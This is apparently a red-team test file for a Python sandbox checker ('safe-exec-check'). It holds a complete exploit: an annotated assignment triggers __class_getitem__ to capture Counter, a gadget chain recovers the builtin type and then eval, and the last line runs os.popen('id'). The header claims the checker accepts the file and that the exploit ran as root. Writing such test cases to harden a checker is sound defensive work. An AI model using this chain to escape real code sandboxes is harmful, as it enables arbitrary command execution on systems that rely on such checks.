# expect: reject unbound
# line: 28
# verified: reaches its goal under plain python3 (3.11) in a temp dir (eval obtained, id ran)
# why: thirteenth red team (third round), family N: as N_01, in a module-level annotated assignment

# Mechanism: as ok_15, through a module-level annotated assignment (its annotation is evaluated at run time)
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (typing._GenericAlias + deepcopy, 11b family A end gadget), called: runs id
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD b170093
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import dataclasses
import typing

class P:
    pass

box = []

class G:
    def __class_getitem__(cls, item):
        box.append(item)
        return cls

v: G[collections.Counter] = 0                       # a module-level annotated assignment evaluates its annotation
K = box[0]
T = K.copy(P)                                       # Counter.copy(P) -> P.__class__(P) -> builtin type
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))   # 11b family A end gadget
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
